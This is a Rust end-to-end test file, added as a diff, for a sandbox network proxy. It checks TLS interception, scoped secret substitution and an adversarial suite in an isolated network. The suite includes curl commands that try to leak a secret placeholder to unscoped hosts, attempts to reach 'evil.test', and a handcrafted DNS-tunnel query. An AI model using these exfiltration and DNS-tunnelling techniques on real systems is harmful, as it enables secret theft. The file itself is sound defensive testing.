@@ -1,0 +1,331 @@
+//! End to end: HTTP/TLS interception, secrets in flight and the adversarial suite, with real
+//! clients (Debian's curl and python3 in the `nettest` image) in a real VM whose owner sits
+//! in a network namespace with only a veth to the test host (`common/nethost.rs`), so no
+//! packet can leave this machine. The owner trusts the test host's CA through
+//! `SSL_CERT_FILE`; the guest trusts the sandbox's own interception CA.
+//!
+//! One sandbox serves most checks (allow-list `web.test`, `api.test`, `*.web.test` and a
+//! secret scoped to `api.test`); a second one shows that two sandboxes holding the same
+//! secret name with different values never mix them up, and that `--add-host` cannot steer
+//! an intercepted name. Every "never arrived" assertion reads the test host's logs, and the
+//! harness test in `e2e_net.rs` is the control that shows such traffic would be logged.
+
+mod common;
+#[path = "common/nethost.rs"]
+mod nethost;
+
+use std::time::Duration;
+
+use common::{env, ok};
+use nethost::{guest, NetHost};
+use serde_json::Value;
+
+const SECRET: &str = "s3cr3t-value-for-api";
+
+fn start(net: &NetHost, image: &str, args: &[&str], secret: &str) -> String {
+    let e = env();
+    let mut run = e.cmd();
+    run.args(["run", "--image", image, "-d"])
+        .args(args)
+        .env("API_TOKEN", secret)
+        .env("MATCHLOCK_LOG", "warn,matchlock_net=info");
+    ok(&net.wrap(run).output().expect("run -d"))
+        .trim()
+        .to_string()
+}
+
+fn requests(net: &NetHost, log: &str, path: &str) -> Vec<Value> {
+    net.log(log)
+        .into_iter()
+        .filter(|r| r["path"] == path)
+        .collect()
+}
+
+/// Runs `script` in the guest and returns its output (asserting success when `want_ok`).
+#[track_caller]
+fn sh(id: &str, script: &str, want_ok: bool) -> String {
+    let (okk, text, _) = guest(env(), id, script);
+    assert_eq!(okk, want_ok, "{script}: {text}");
+    text
+}
+
+#[test]
+fn interception_secrets_and_adversarial_cases() {
+    let e = env();
+    let image = nethost::nettest_image(e);
+    let net = NetHost::new();
+    let id = start(
+        &net,
+        image,
+        &[
+            "--allow-host",
+            "web.test,*.web.test",
+            "--secret",
+            "API_TOKEN@api.test",
+        ],
+        SECRET,
+    );
+    let _guard = e.guard(&id);
+
+    // HTTPS through the proxy: the guest verifies the sandbox CA (SSL_CERT_FILE points at
+    // the bundle), the owner verifies the test host; HTTP/2 is negotiated on both sides.
+    let out = sh(
+        &id,
+        "curl -sS --max-time 30 -w ' %{http_version}' 'https://web.test/tls?q=1'",
+        true,
+    );
+    assert!(out.ends_with(" 2"), "guest side is HTTP/2: {out}");
+    let r = &requests(&net, "https", "/tls")[0];
+    assert_eq!(r["sni"], "web.test");
+    assert_eq!(r["version"], "HTTP/2.0", "{r}");
+    assert_eq!(r["query"], "q=1");
+    // The system bundle still verifies TLS the proxy does not touch, and the sandbox CA is
+    // in it as well as in its own file.
+    let n = sh(
+        &id,
+        "busybox grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/matchlock-bundle.crt",
+        true,
+    );
+    assert!(
+        n.trim().parse::<u32>().unwrap_or(0) > 100,
+        "system roots + CA: {n}"
+    );
+    sh(
+        &id,
+        "busybox cmp /etc/ssl/certs/matchlock-bundle.crt /etc/ssl/certs/ca-certificates.crt",
+        true,
+    );
+    // Plain HTTP, HTTP/1.1 keep-alive: two requests on one connection.
+    let out = sh(
+        &id,
+        "curl -sS --max-time 30 http://web.test/one http://web.test/two -o /dev/null -o /dev/null -w '%{num_connects} '",
+        true,
+    );
+    assert_eq!(out.trim(), "1 0", "keep-alive reused the connection: {out}");
+    assert_eq!(requests(&net, "http", "/one").len(), 1);
+    // SSE arrives as it is produced (three events 300 ms apart).
+    let out = sh(
+        &id,
+        "curl -sSN --max-time 30 http://web.test/sse | while read -r l; do [ -n \"$l\" ] && echo \"$(date +%s%N) $l\"; done; true",
+        true,
+    );
+    let stamps: Vec<u128> = out
+        .lines()
+        .filter_map(|l| l.split_once(' ')?.0.parse().ok())
+        .collect();
+    assert!(stamps.len() >= 3, "{out}");
+    let spread_ms = (stamps[stamps.len() - 1] - stamps[0]) / 1_000_000;
+    assert!(
+        spread_ms >= 300,
+        "events arrived together ({spread_ms} ms): {out}"
+    );
+
+    // Secret: the guest holds a placeholder; the real value reaches api.test in a header
+    // and in the query, never the guest.
+    let ph = sh(&id, "printf %s \"$API_TOKEN\"", true);
+    assert!(
+        ph.starts_with("SANDBOX_SECRET_") && !ph.contains(SECRET),
+        "{ph}"
+    );
+    // (The test host echoes requests, so the body it returns holds the value: an upstream
+    // that reflects a secret reveals it, which no proxy can prevent; not read here.)
+    sh(
+        &id,
+        "curl -sS --max-time 30 -o /dev/null -H \"Authorization: Bearer $API_TOKEN\" \"https://api.test/v1?key=$API_TOKEN\"",
+        true,
+    );
+    let r = &requests(&net, "https", "/v1")[0];
+    assert_eq!(r["headers"]["authorization"], format!("Bearer {SECRET}"));
+    assert_eq!(r["query"], format!("key={SECRET}"));
+
+    // Adversarial: the placeholder toward a host it is not scoped to, in a header, the
+    // path or the query: 403 and nothing sent.
+    for (n, cmd) in [
+        ("hdr", "curl -sS --max-time 30 -w '%{http_code}' -H \"X-Leak: $API_TOKEN\" https://web.test/leak-hdr"),
+        ("path", "curl -sS --max-time 30 -w '%{http_code}' \"https://web.test/leak-path/$API_TOKEN\""),
+        ("query", "curl -sS --max-time 30 -w '%{http_code}' \"http://web.test/leak-query?t=$API_TOKEN\""),
+    ] {
+        let out = sh(&id, cmd, true);
+        assert!(out.ends_with("403"), "{n}: {out}");
+        assert!(out.contains("Blocked by policy"), "{n}: {out}");
+    }
+    for log in ["http", "https"] {
+        let text = net.log_text(log);
+        assert!(!text.contains("leak-"), "{log}: {text}");
+        assert!(
+            !text.contains(&ph),
+            "{log}: the placeholder arrived: {text}"
+        );
+    }
+    // A host outside the allow-list does not resolve in the guest (NXDOMAIN); even when the
+    // guest supplies the address itself (`--resolve`), the proxy refuses: 403, nothing
+    // arrives (HTTP, and HTTPS over HTTP/2).
+    let out = sh(&id, "curl -sS --max-time 30 http://evil.test/", false);
+    assert!(out.contains("Could not resolve host"), "{out}");
+    for url in ["http://evil.test/evil-plain", "https://evil.test/evil-tls"] {
+        let out = sh(
+            &id,
+            &format!(
+                "curl -sS --max-time 30 -w '%{{http_code}}' --resolve evil.test:80:198.51.100.2 \
+                 --resolve evil.test:443:198.51.100.2 {url}"
+            ),
+            true,
+        );
+        assert!(out.ends_with("403"), "{url}: {out}");
+    }
+    // Host header vs SNI: TLS to web.test carrying `Host: evil.test` is judged by the Host.
+    let out = sh(
+        &id,
+        "curl -sS --http1.1 --max-time 30 -w '%{http_code}' -H 'Host: evil.test' https://web.test/mismatch",
+        true,
+    );
+    assert!(out.ends_with("403"), "{out}");
+    // The IP literal of an allowed host is not the host.
+    let out = sh(
+        &id,
+        "curl -sS --max-time 30 -w '%{http_code}' http://198.51.100.2/by-ip",
+        true,
+    );
+    assert!(out.ends_with("403"), "{out}");
+    // CONNECT tunnels are refused.
+    let out = sh(
+        &id,
+        "curl -sS --max-time 30 -w '%{http_code}' -p -x http://web.test:80 http://evil.test/tunnel",
+        false,
+    );
+    assert!(out.contains("403"), "{out}");
+    for log in ["http", "https"] {
+        let text = net.log_text(log);
+        for p in ["evil-", "mismatch", "by-ip", "tunnel"] {
+            assert!(!text.contains(p), "{p} reached the test host: {text}");
+        }
+    }
+    // Upstream with an untrusted certificate: 502, no data from it.
+    let out = sh(
+        &id,
+        "curl -sS --max-time 30 -w '%{http_code}' https://web.test:8443/untrusted",
+        false,
+    );
+    assert!(!out.contains("\"method\""), "{out}");
+    // The gateway address is never the host's loopback.
+    let out = sh(
+        &id,
+        "curl -sS --max-time 30 -w '%{http_code}' http://10.0.2.2/gw",
+        true,
+    );
+    assert!(out.ends_with("403"), "{out}");
+
+    // DNS: names off the allow-list are NXDOMAIN at the owner (any type), allowed ones are
+    // resolved on the host.
+    sh(&id, "getent hosts web.test", true);
+    sh(&id, "getent hosts exfil-data.evil.test", false);
+    let py = "import socket,struct,os\n\
+              q=os.urandom(2)+b'\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n\
+              q+=b''.join(bytes([len(p)])+p for p in b'tunnel-bits.evil.test'.split(b'.'))+b'\\x00\\x00\\x10\\x00\\x01'\n\
+              s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(10); s.sendto(q,('198.51.100.2',53))\n\
+              r=s.recv(4096); print('rcode', r[3]&15)\n\
+              t=socket.create_connection(('198.51.100.2',53),10); t.sendall(struct.pack('>H',len(q))+q)\n\
+              n=struct.unpack('>H',t.recv(2))[0]; r=t.recv(n); print('tcp-rcode', r[3]&15)\n";
+    let out = sh(&id, &format!("python3 -c \"{py}\""), true);
+    assert!(
+        out.contains("rcode 3") && out.contains("tcp-rcode 3"),
+        "{out}"
+    );
+    let dns = net.log_text("dns");
+    assert!(
+        !dns.contains("exfil-data") && !dns.contains("tunnel-bits"),
+        "{dns}"
+    );
+    // UDP other than DNS never leaves.
+    sh(
+        &id,
+        "python3 -c \"import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'udp-leak',('198.51.100.2',9))\"",
+        true,
+    );
+    // Raw TCP to an allowed name's address: judged by IP, refused.
+    let out = sh(
+        &id,
+        "curl -sS --max-time 30 telnet://198.51.100.2:7 </dev/null",
+        false,
+    );
+    assert!(
+        out.contains("refused") || out.contains("Failed to connect"),
+        "{out}"
+    );
+
+    // The allow-list changes at run time: evil.test becomes reachable.
+    let out = ok(&e.run(&["allow-list", "add", &id, "evil.test"]));
+    assert!(out.contains("Added to"), "{out}");
+    let out = sh(
+        &id,
+        "curl -sS --max-time 30 https://evil.test/now-allowed",
+        true,
+    );
+    assert!(out.contains("now-allowed"), "{out}");
+    assert_eq!(requests(&net, "https", "/now-allowed").len(), 1);
+    assert!(!net.log_text("udp").contains("udp-leak"));
+
+    // Events: requests and refusals, in the event log, without the secret.
+    let events = ok(&e.run(&["log", "--events", &id]));
+    assert!(
+        events.contains(r#""url":"https://web.test/tls""#),
+        "{events}"
+    );
+    assert!(events.contains(r#""blocked":true"#), "{events}");
+    assert!(!events.contains(SECRET), "{events}");
+    e.kill_and_rm(&id);
+}
+
+#[test]
+fn same_secret_name_two_sandboxes_and_add_host_steering() {
+    let e = env();
+    let image = nethost::nettest_image(e);
+    let net = NetHost::new();
+    let a = start(
+        &net,
+        image,
+        &["--secret", "API_TOKEN@api.test"],
+        "value-of-a",
+    );
+    let _ga = e.guard(&a);
+    // b maps api.test to a forbidden address in its own /etc/hosts: the owner re-resolves
+    // the name itself, so the request still goes to the real api.test.
+    let b = start(
+        &net,
+        image,
+        &[
+            "--secret",
+            "API_TOKEN@api.test",
+            "--add-host",
+            "api.test:10.11.12.13",
+        ],
+        "value-of-b",
+    );
+    let _gb = e.guard(&b);
+    for (id, path) in [(&a, "/from-a"), (&b, "/from-b")] {
+        sh(
+            id,
+            &format!("curl -sS --max-time 30 -H \"X-Token: $API_TOKEN\" https://api.test{path}"),
+            true,
+        );
+    }
+    assert_eq!(
+        requests(&net, "https", "/from-a")[0]["headers"]["x-token"],
+        "value-of-a"
+    );
+    let rb = &requests(&net, "https", "/from-b")[0];
+    assert_eq!(rb["headers"]["x-token"], "value-of-b");
+    // It arrived at the real address; nothing went to the steering address.
+    assert_eq!(rb["local"], "198.51.100.2:443", "{rb}");
+    for log in ["http", "https"] {
+        assert!(
+            net.log(log).iter().all(|r| !r["local"]
+                .as_str()
+                .is_some_and(|l| l.starts_with("10.11.12.13"))),
+            "{}",
+            net.log_text(log)
+        );
+    }
+    e.kill_and_rm(&a);
+    e.kill_and_rm(&b);
+}
